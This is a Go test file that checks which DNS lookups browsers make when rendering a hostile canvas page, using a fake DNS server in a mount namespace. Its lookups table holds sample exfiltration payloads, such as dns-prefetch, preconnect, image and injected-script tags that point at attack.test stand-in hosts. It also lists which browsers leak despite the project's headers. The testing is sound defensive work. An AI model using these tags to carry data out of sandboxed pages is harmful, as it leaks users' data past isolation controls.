package web_test

import (
	"maps"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ahp-canvas/ahp-canvas/canvas/web/webtest"
)

// nameServer is the DNS server of the test's mount namespace.
const nameServer = "127.0.0.53"

// lookups are ways to have a name looked up. A name can carry data out of a canvas.
var lookups = map[string]string{
	"link":        `<a href="http://link.attack.test/">x</a>`,
	"prefetch":    `<link rel=dns-prefetch href="http://prefetch.attack.test/">`,
	"meta":        `<meta http-equiv=x-dns-prefetch-control content=on><a href="http://meta.attack.test/">x</a><link rel=dns-prefetch href="http://meta.attack.test/">`,
	"script":      js(`var l=document.createElement("link");l.rel="dns-prefetch";l.href="http://script.attack.test/";document.head.append(l)`),
	"outer frame": js(`parent.document.head.insertAdjacentHTML("beforeend","<link rel=dns-prefetch href=http://outer.attack.test/>")`),
	"preconnect":  `<link rel=preconnect href="http://preconnect.attack.test/">`,
	"image":       `<img src="http://image.attack.test/">`,
}

// lookedUp are the names that a browser looks up in spite of our headers: the first
// always, the others sometimes.
var lookedUp = map[webtest.Kind][]string{
	webtest.Firefox: {"preconnect"},
	webtest.WebKit:  {"preconnect", "meta", "outer", "prefetch", "script"},
}

// TestNames: which names of a hostile canvas are looked up. It needs its own DNS
// server, so it runs once more in a namespace.
func TestNames(t *testing.T) {
	if !long || os.Geteuid() != 0 {
		t.Skip("AHP_LONG=1 and root are needed")
	}
	if os.Getenv("AHP_NAMES") == "" {
		alone(t)
		return
	}
	asked := answerNames(t)
	webtest.Each(t, func(t *testing.T) {
		b := webtest.Start(t)
		var rows []attack
		for _, name := range slices.Sorted(maps.Keys(lookups)) {
			rows = append(rows, attack{name: name, page: lookups[name]})
		}
		known := lookedUp[b.Kind]
		assault(t, b, asFiles, rows, nil, func(p *webtest.Page, _ []attack, _ []*canary) {
			p.Wait(t, everyCard)
			got := asked(known[:min(1, len(known))])
			for _, name := range got {
				if !slices.Contains(known, name) {
					t.Errorf("%s: the name was looked up", name)
				}
			}
			if len(known) > 0 && !slices.Contains(got, known[0]) {
				t.Errorf("%s: the name is not looked up any more: say so here, and in doc.go", known[0])
			}
		})
	}, webtest.Chromium, webtest.Firefox, webtest.WebKit)
}

// alone runs the test in a mount namespace that uses nameServer.
func alone(t *testing.T) {
	if err := exec.Command("unshare", "-m", "true").Run(); err != nil {
		t.Skip("no mount namespaces here:", err)
	}
	conf := filepath.Join(t.TempDir(), "resolv.conf")
	if err := os.WriteFile(conf, []byte("nameserver "+nameServer+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), "unshare", "-m", "sh", "-c", `mount --bind "$0" /etc/resolv.conf && exec "$@"`, conf, os.Args[0], "-test.run=^TestNames$")
	cmd.Env = append(os.Environ(), "AHP_NAMES=1")
	if said, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("%v\n%s", err, said)
	}
}

// answerNames answers that no name exists. The function it returns waits for and
// returns the names below attack.test since its last call.
func answerNames(t *testing.T) func(wanted []string) []string {
	conn, err := net.ListenPacket("udp", nameServer+":53")
	if err != nil {
		t.Fatal(err)
	}
	names := make(chan string, 4096)
	t.Cleanup(func() { _ = conn.Close() })
	go answerAll(conn, names)
	return func(wanted []string) (got []string) {
		late := time.After(webtest.Timeout / 2)
		for {
			select {
			case name := <-names:
				got = append(got, name)
				continue
			default:
			}
			if !slices.ContainsFunc(wanted, func(name string) bool { return !slices.Contains(got, name) }) {
				return got
			}
			select {
			case name := <-names:
				got = append(got, name)
			case <-late:
				return got
			}
		}
	}
}

// answerAll answers until the connection is closed.
func answerAll(conn net.PacketConn, names chan<- string) {
	buf := make([]byte, 2048)
	for {
		n, from, err := conn.ReadFrom(buf)
		if err != nil {
			return
		}
		if n < 17 {
			continue // not a question
		}
		name, said := noSuchName(buf[:n])
		_, _ = conn.WriteTo(said, from)
		if first, ok := strings.CutSuffix(name, ".attack.test"); ok {
			names <- first
		}
	}
}

// noSuchName returns the name in a question, and the answer that it does not exist.
func noSuchName(question []byte) (string, []byte) {
	var labels []string
	at := 12
	for at < len(question) && question[at] != 0 {
		end := min(at+1+int(question[at]), len(question))
		labels = append(labels, string(question[at+1:end]))
		at = end
	}
	end := min(at+5, len(question)) // with its type and class
	answer := slices.Concat(question[:2], []byte{0x81, 0x83}, question[4:6], make([]byte, 6), question[12:end])
	return strings.Join(labels, "."), answer
}
